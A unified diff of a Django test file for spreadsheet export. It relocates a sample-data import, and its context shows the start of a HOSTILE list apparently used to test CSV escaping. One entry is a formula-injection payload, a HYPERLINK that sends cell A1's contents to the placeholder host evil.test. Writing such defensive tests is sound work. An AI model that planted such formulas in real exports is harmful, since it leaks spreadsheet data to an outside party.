@@ -21,7 +21,6 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import load_workbook
-from reports.sample import seed_rounds
 
 from assessments import offline, services
 from assessments.models import Answer
@@ -29,6 +28,7 @@ from maturity_site.spreadsheets import csv_field, csv_text, restore
 from tests.assessment_factories import make_assessment
 from tests.catalog_factories import make_version
 from tests.conftest import access_for, signed_in
+from tests.report_samples import seed_rounds
 
 HOSTILE = [
     'see;=HYPERLINK("http://evil.test/?"&A1;"click");',
